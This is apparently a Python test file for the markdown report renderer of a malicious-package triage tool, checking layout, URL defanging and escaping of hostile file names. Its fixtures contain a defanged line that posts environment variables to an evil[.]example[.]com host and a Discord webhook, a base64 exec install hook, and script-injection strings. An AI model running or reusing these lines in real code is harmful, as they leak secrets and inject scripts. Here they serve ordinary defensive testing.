"""Markdown: exact ticket layout, defanged code, package text kept in its place."""

from __future__ import annotations

import re

from tests.render_factory import SHA, benign_report, hostile_report, malicious_report
from triage.render.markdown import render


def test_title_header_and_summary() -> None:
    lines = render(malicious_report()).splitlines()
    assert lines[:8] == [
        "# triage: evilpkg 1.0.2: MALICIOUS (score 96.5/100)",
        "",
        f"- **SHA-256:** `{SHA}`",
        "- **Artifact:** sdist from `evilpkg-1.0.2.tar.gz`",
        "- **Engine:** `anthropic/claude-sonnet-4` · **Files analysed:** 3 · **Elapsed:** 1.25 s",
        "",
        "**Summary:** 3 findings in 2 files (1 critical, 2 high); earliest phase: install; "
        "3-step attack chain. 2 members skipped (1 flagged as evidence).",
        "",
    ]


def test_reasons_and_chain_sections() -> None:
    text = render(malicious_report())
    assert (
        "## Verdict reasons\n\n- install hook runs an encoded payload\n"
        "- payload exfiltrates data to evil[.]example[.]com\n"
    ) in text
    assert (
        "## Attack chain\n\n"
        "1. install → code_execution_install_hook_override (setup.py:10)\n"
        "2. install → code_execution_encoded_command (setup.py:12)\n"
        "3. install → code_exfiltration_data (setup.py#decoded-1:3)\n"
    ) in text


def test_findings_table_rows_exact() -> None:
    lines = render(malicious_report()).splitlines()
    header = lines.index("| # | Location | Indicator | Type | Phase | Severity | Source |")
    assert lines[header + 1 : header + 5] == [
        "|---|---|---|---|---|---|---|",
        "| 1 | `setup.py:10` | `code_execution_install_hook_override` | Execution Stage | install "
        "| high | static |",
        "| 2 | `setup.py:12-13` | `code_execution_encoded_command` | Execution Mechanism | install "
        "| critical | both |",
        "| 3 | `setup.py#decoded-1:3` | `code_exfiltration_data` | Exfiltration | install "
        "| high | llm |",
    ]


def test_finding_block_with_defanged_code_and_origin() -> None:
    text = render(malicious_report())
    assert (
        "### 3. `setup.py#decoded-1:3`: `code_exfiltration_data`\n\n"
        "high · install · llm · confidence 0.70 · statement `setup.py#decoded-1:3:0`\n\n"
        "```python\n"
        'requests.post("hxxps://evil[.]example[.]com/collect", data=os.environ); '
        'requests.post("hxxps://discord[.]com/api/webhooks/123456789012345678/AbCdEf-token", '
        'json={"u": os.getlogin()})\n'
        "```\n\n"
        "**Justification:** Posts environment variables to "
        "hxxps://evil[.]example[.]com/collect and a Discord webhook.\n\n"
        "Decoded from the literal in statement `setup.py:12:0`.\n"
    ) in text
    assert (
        '```python\n        exec(base64.b64decode(\n            "aW1wb3J0IHJlcXVlc3Rz"))\n```\n'
    ) in text
    assert re.search(r"https?://|evil\.example|discord\.com", text) is None


def test_skipped_and_notes_sections() -> None:
    text = render(malicious_report())
    assert text.endswith(
        "## Skipped / not analysed\n\n"
        "- `evilpkg/bin/payload.exe`: binary file (PE executable) **(evidence)**\n"
        "- `evilpkg/logo.png`: binary file (PNG image)\n\n"
        "## Notes\n\n"
        "- evilpkg/big.py was not reviewed by the LLM (too large)\n"
    )


def test_hostile_text_cannot_break_out() -> None:
    text = render(hostile_report())
    # The pipe in the file name is escaped in the table row.
    assert (
        "| 1 | `pkg/<script>alert(1)</script>\\|a.py:7-10` | "
        "`code_execution_install_hook_override` | Execution Stage | install | high | static |"
    ) in text
    # Code holding ``` gets a four-backtick fence, so its own fences stay inside.
    assert (
        "````python\n"
        "x = '[bold red]boom[/]' # </code></pre><script>alert(1)</script>\n"
        "y = '''```\n# not a heading\n```'''\n"
        "````\n"
    ) in text
    # Prose HTML is neutralised.
    assert "**Justification:** Uses [red]markup[/red] and &lt;b&gt;html&lt;/b&gt; | pipes." in text
    assert "- `<img src=x onerror=alert(1)>.so`: binary [bold]x[/bold] **(evidence)**" in text


def test_backticks_in_inline_values_use_longer_spans() -> None:
    report = malicious_report(engine="a`b")
    assert "- **Engine:** ``a`b`` · **Files analysed:**" in render(report)


def test_benign_report() -> None:
    assert render(benign_report()) == (
        "# triage: goodpkg 2.0: BENIGN (score 0.0/100)\n\n"
        f"- **SHA-256:** `{'0' * 64}`\n"
        "- **Artifact:** wheel from `goodpkg==2.0`\n"
        "- **Engine:** `static` · **Files analysed:** 1 · **Elapsed:** 0.10 s\n\n"
        "**Summary:** No malicious statements found in 1 analysed file.\n\n"
        "## Verdict reasons\n\n- no indicators found\n\n"
        "## Findings\n\nNo malicious statements found.\n\n"
        "## Skipped / not analysed\n\n- nothing skipped\n"
    )
